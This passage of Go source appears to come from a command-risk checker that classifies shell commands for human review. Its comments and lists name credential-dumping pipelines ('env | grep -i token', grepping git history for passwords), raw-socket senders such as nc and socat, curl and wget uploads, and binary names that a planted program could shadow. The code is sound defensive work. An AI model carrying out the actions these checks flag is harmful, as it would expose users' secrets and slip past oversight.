	all, n := EveryLine(strings.ToLower(f.content), "#", func(line string) bool {
		return localHostsLineRe.MatchString(strings.Join(strings.Fields(line), " "))
	})
	return all && n > 0
}

// installsProjectProgram returns the name of a program of the workspace
// that a write puts into /usr/local/bin (copied, installed, moved or
// linked from the workspace's files), when no program the table knows has
// that name (a new name cannot shadow git or python); "" otherwise.
func (r *Record) installsProjectProgram(dest string) string {
	switch r.Program {
	case "cp", "gcp", "install", "ginstall", "mv", "gmv", "ln", "gln":
	default:
		return ""
	}
	dir, name := path.Dir(dest), path.Base(dest)
	if strings.HasSuffix(dest, "/") || dest == "/usr/local/bin" {
		dir, name = strings.TrimSuffix(dest, "/"), ""
	}
	if dir != "/usr/local/bin" {
		return ""
	}
	n := 0
	for _, f := range r.Files {
		if f.Op != OpRead && f.Op != OpDelete {
			continue
		}
		if !has(f.Classes, "inside", "source", "build") || f.Dynamic || has(f.Classes, ClassVCS, ClassSecret) {
			return ""
		}
		if name == "" {
			name = path.Base(f.Path)
		}
		n++
	}
	if n == 0 || name == "" || strings.HasPrefix(name, ".") || Lookup(name) != nil || shadowedNames[name] || r.specialMode {
		return ""
	}
	return name
}

// sharedTempContents reports a path that is everything in a shared
// temporary folder (/tmp/*, /var/tmp/.*).
func sharedTempContents(p string) bool {
	dir, base := path.Dir(p), path.Base(p)
	switch base {
	case "*", ".*", "*.*", "**", "{*,.*}":
	default:
		return false
	}
	return dir == "/tmp" || dir == "/var/tmp" || dir == "/private/tmp"
}

// installsServices reports a write to dest that installs only new service
// definitions: dest is one, or a service manager's folder (cp unit.service
// /etc/systemd/system/) that receives files named like them.
func (r *Record) installsServices(dest string) bool {
	if serviceDefinition(dest) {
		return true
	}
	dir := strings.TrimSuffix(dest, "/")
	n := 0
	for _, f := range r.Files {
		if f.Op != OpRead {
			continue
		}
		if !serviceDefinition(dir + "/" + path.Base(f.Path)) {
			return false
		}
		n++
	}
	return n > 0
}

// serviceDefinition reports the path of a new service definition whose name
// is not one of the system's own.
func serviceDefinition(p string) bool {
	return serviceDefinitionRe.MatchString(p) && !systemServiceNameRe.MatchString(path.Base(p))
}

// secretWords are words a search for credentials uses.
var secretWords = []string{"token", "secret", "passw", "apikey", "api_key", "key", "auth", "cred", "aws_", "private"}

// PipelineConcern looks at the stages of one pipeline for what a person
// should see: the environment filtered for credentials into the transcript
// (env | grep -i token).
func PipelineConcern(stages []*Record) string {
	dump, history := false, false
	for _, r := range stages {
		if r == nil {
			continue
		}
		if environmentDumpers[r.Program] && len(r.Files) == 0 {
			dump = true
			continue
		}
		if r.printsHistory {
			history = true
			continue
		}
		if (dump || history) && r.firstArg != "" && !r.printsNoLines {
			p := strings.ToLower(r.firstArg)
			for _, w := range secretWords {
				if strings.Contains(p, w) {
					if history {
						// git log -p --all | grep -iE 'password|secret': every
						// credential ever committed, printed into the transcript.
						return "prints the credentials found in the repository's history (" + r.Program + " " + r.firstArg + ")"
					}
					return "prints the environment's credentials (" + r.Program + " " + r.firstArg + ")"
				}
			}
		}
	}
	return ""
}

// harmlessPth reports .pth content whose import lines the Python analysis
// finds nothing in (no file, process, network, environment or dynamic code).
func harmlessPth(content string) bool {
	for _, line := range strings.Split(content, "\n") {
		line = strings.TrimSpace(line)
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		if !strings.HasPrefix(line, "import ") && !strings.HasPrefix(line, "import\t") {
			if strings.ContainsAny(line, ";()") {
				return false
			}
			continue // a folder added to sys.path
		}
		if ce := analyzeCode("python", line); len(ce.Found) > 0 {
			return false
		}
	}
	return true
}

// rootGlob reports a path whose first component below / is a glob pattern.
func rootGlob(p string) bool {
	if !strings.HasPrefix(p, "/") {
		return false
	}
	first, _, _ := strings.Cut(p[1:], "/")
	return strings.ContainsAny(first, "*?[")
}

// archivesWorkspace reports tar, zip or git archive of a whole workspace root.
func archivesWorkspace(r *Record) bool {
	switch r.Program {
	case "tar", "zip", "7z", "gtar", "bsdtar":
	default:
		return false
	}
	for _, f := range r.Files {
		if f.Op == OpRead && has(f.Classes, ClassRoot) {
			return true
		}
	}
	return false
}

// rawSender reports a stage that sends what it reads to another host
// over a raw socket or an upload (not ssh, which is how deploys go).
func rawSender(r *Record) bool {
	switch r.Program {
	case "nc", "ncat", "netcat", "socat", "telnet":
		if r.loopbackOnly {
			return false
		}
		for _, n := range r.Network {
			if n.Local {
				return false
			}
		}
		return true
	case "curl", "wget":
		for _, n := range r.Network {
			if !n.Local && n.Sends != "" {
				return true
			}
		}
	}
	return false
}

// copiesFromOutside reports a copy that reads files outside every
// workspace (another project, a home folder), not from temp or a cache.
func (r *Record) copiesFromOutside() bool {
	if r.Program != "cp" && r.Program != "rsync" && r.Program != "gcp" && r.Program != "ditto" {
		return false
	}
	for _, f := range r.Files {
		if f.Op == OpRead && has(f.Classes, "outside", "home_sub") && !has(f.Classes, "temp", ClassCache) {
			return true
		}
	}
	return false
}

// cacheRoot reports the home folder's cache root itself (~/.cache,
// ~/Library/Caches, or everything in it), not one tool's cache below it.
func cacheRoot(p string) bool {
	p = strings.TrimSuffix(strings.TrimSuffix(p, "/*"), "/")
	for _, suffix := range []string{"/.cache", "/Library/Caches"} {
		if base, ok := strings.CutSuffix(p, suffix); ok {
			return base == "~" || base == "$HOME" || base == "${HOME}" || base == "/root" ||
				(strings.HasPrefix(base, "/home/") || strings.HasPrefix(base, "/Users/")) && strings.Count(base, "/") == 2
		}
	}
	return false
}

// movesOutOfWorkspace reports a move whose destination is outside the
// workspace (temp, home, another folder).
func (r *Record) movesOutOfWorkspace() bool {
	if r.Program != "mv" && r.Program != "gmv" {
		return false
	}
	for _, f := range r.Files {
		if f.Op == OpWrite && !has(f.Classes, "inside", ClassRoot, "source", "build") && has(f.Classes, "temp", "outside", "home_sub", "home") {
			return true
		}
	}
	return false
}

// testEnvFile reports an env file for tests or fixtures (.env.test,
// tests/fixtures/config.env): its values are the tests' own, usually
// committed.
func testEnvFile(p string) bool {
	base := path.Base(p)
	if strings.HasPrefix(base, ".env.test") || strings.HasPrefix(base, ".env.ci") || strings.HasPrefix(base, ".env.e2e") {
		return true
	}
	for _, dir := range []string{"/fixtures/", "/testdata/", "/test/", "/tests/", "/__tests__/", "/spec/"} {
		if strings.Contains("/"+p, dir) {
			return true
		}
	}
	return false
}

// backupSuffixRe matches what a backup copy adds to a file's name
// (.bak, .bak.20260101, -backup, .orig, ~).
var backupSuffixRe = regexp.MustCompile(`(?i)^(?:[._-]?(?:bak|backup|orig|old|save|saved)(?:[._-][\w.-]*)?|~)$`)

// backupCopy reports a copy of a file to the same name with a backup
// suffix (cp ~/.zshrc ~/.zshrc.bak.$(date +%F)): nothing is replaced, and
// the copy stays beside the original.
func (r *Record) backupCopy(w FileEffect) bool {
	if r.Program != "cp" && r.Program != "gcp" && r.Program != "ditto" || w.Dynamic || has(w.Classes, ClassSecret, ClassPersistence, ClassGuard, ClassAgent, ClassVCS, ClassHooks) {
		return false
	}
	for _, f := range r.Files {
		if f.Op == OpRead && !f.Dynamic && strings.HasPrefix(w.Path, f.Path) && backupSuffixRe.MatchString(w.Path[len(f.Path):]) {
			return true
		}
	}
	return false
}

// shadowedNames are programs whose name on the user's PATH would stand in
// for the real one.
var shadowedNames = map[string]bool{"git": true, "ssh": true, "sudo": true, "su": true, "ls": true, "cat": true, "python": true,
	"python3": true, "pip": true, "pip3": true, "node": true, "npm": true, "npx": true, "curl": true, "wget": true, "bash": true,
	"sh": true, "zsh": true, "make": true, "go": true, "cargo": true, "docker": true, "kubectl": true, "aws": true, "gh": true,
	"code": true, "cursor": true, "env": true, "which": true, "rm": true, "cp": true, "mv": true, "gpg": true, "op": true,
	"security": true, "passwd": true, "login": true, "scp": true, "rsync": true, "tar": true, "openssl": true, "claude": true,
	"doas": true, "pkexec": true, "sshd": true, "sftp": true, "dash": true, "fish": true, "ksh": true}

// installsOwnTool reports the project's own program copied or linked into
// the user's bin folder (~/.local/bin, ~/bin) under a name that shadows no
// common program.
func (r *Record) installsOwnTool(w FileEffect) bool {
	switch r.Program {
	case "install", "cp", "ln", "gcp":
	default:
		return false
	}
	p := w.Path
	dir, name := path.Split(p)
	switch {
	case w.Dynamic || name == "" || shadowedNames[name] || strings.HasPrefix(name, "."):
		return false
	case strings.HasSuffix(dir, "/.local/bin/") || dir == "~/bin/" || strings.HasSuffix(dir, "/home/bin/"):
	default:
		return false
	}
	sources := 0
	for _, f := range r.Files {
		if f.Op != OpRead {
			continue
		}
		sources++
		if f.Dynamic || !has(f.Classes, "inside", "build") {
			return false
		}
	}
	return sources == 1
}

// codeHosts are public code hosts whose SSH host keys are published.
var codeHosts = map[string]bool{"github.com": true, "gitlab.com": true, "bitbucket.org": true, "ssh.dev.azure.com": true,
	"vs-ssh.visualstudio.com": true, "codeberg.org": true, "git.sr.ht": true}

// pinsCodeHostKeys reports ssh-keyscan of public code hosts only, appended
// to a known_hosts file.
func (r *Record) pinsCodeHostKeys(w FileEffect) bool {
	if r.Program != "ssh-keyscan" || path.Base(w.Path) != "known_hosts" || w.replaces || len(r.Network) == 0 {
		return false
	}
	for _, n := range r.Network {
		if !codeHosts[strings.ToLower(hostOf(n.Dest))] {
			return false
		}
	}
	return true
}
